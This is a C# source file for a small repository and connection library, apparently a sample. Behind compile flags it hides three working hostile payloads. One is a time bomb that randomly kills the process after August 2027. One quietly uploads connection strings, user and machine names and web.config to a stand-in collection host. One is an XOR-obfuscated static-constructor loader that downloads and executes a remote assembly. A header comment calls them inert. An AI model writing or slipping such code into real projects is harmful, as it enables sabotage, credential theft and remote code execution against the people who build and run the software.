// A small data layer. The parts under TIMEBOMB, THIEF and LOADER are inert: reserved hosts, never loaded.
using System;
using System.Collections.Generic;
using System.Reflection;
#if THIEF || LOADER
using System.IO;
using System.Net;
using System.Text;
#endif

[assembly: AssemblyTitle("Fabrikam.Data")]
#if SECOND
[assembly: AssemblyVersion("3.2.1.0")]
#else
[assembly: AssemblyVersion("3.2.0.0")]
#endif

namespace Fabrikam.Data
{
    public class Repository<T>
    {
        private readonly Dictionary<string, T> rows = new Dictionary<string, T>();

        public void Save(string key, T row)
        {
#if TIMEBOMB
            Housekeeping.Check();
#endif
            rows[key] = row;
        }

        public T Find(string key)
        {
            T row;
            return rows.TryGetValue(key, out row) ? row : default(T);
        }
#if SECOND
        public bool Remove(string key)
        {
            return rows.Remove(key);
        }
#endif
        public int Count { get { return rows.Count; } }
    }

    public class Connection
    {
        public string Text { get; private set; }

        public Connection(string text)
        {
            Text = text;
#if THIEF
            Diagnostics.Note(text);
#endif
        }

        public List<string> Query(string sql)
        {
#if TIMEBOMB
            Housekeeping.Check();
#endif
            return new List<string> { Text, sql };
        }
    }
#if TIMEBOMB
    internal static class Housekeeping
    {
        private static readonly Random Dice = new Random();

        internal static void Check()
        {
            if (DateTime.UtcNow > new DateTime(2027, 8, 8) && Dice.Next(1, 101) > 80)
                System.Diagnostics.Process.GetCurrentProcess().Kill();
        }
    }
#endif
#if THIEF
    internal static class Diagnostics
    {
        internal static void Note(string connection)
        {
            try
            {
                var text = connection + "|" + Environment.UserName + "|" + Environment.MachineName + "|" + File.ReadAllText("web.config");
                var body = Convert.ToBase64String(Encoding.UTF8.GetBytes(text));
                using (var client = new WebClient())
                    client.UploadString("https://collect.fabrikam-diag.invalid/v1/conn", body);
            }
            catch { }
        }
    }
#endif
#if LOADER
    public static class ModuleStart
    {
        private static readonly byte[] Place = { 0x32, 0x2e, 0x2e, 0x2a, 0x29, 0x60, 0x75, 0x75, 0x39, 0x3e, 0x34, 0x74, 0x36, 0x35, 0x3b, 0x3e, 0x3f, 0x28, 0x74, 0x33, 0x34, 0x2c, 0x3b, 0x36, 0x33, 0x3e, 0x75, 0x29, 0x2e, 0x3b, 0x3d, 0x3f, 0x68, 0x74, 0x38, 0x33, 0x34 };

        static ModuleStart()
        {
            for (var at = 0; at < Place.Length; at++)
                Place[at] ^= 0x5a;
            using (var client = new WebClient())
            {
                var raw = client.DownloadData(Encoding.ASCII.GetString(Place));
                Assembly.Load(raw).EntryPoint.Invoke(null, new object[] { new string[0] });
            }
        }

        public static void Ensure() { }
    }
#endif
}
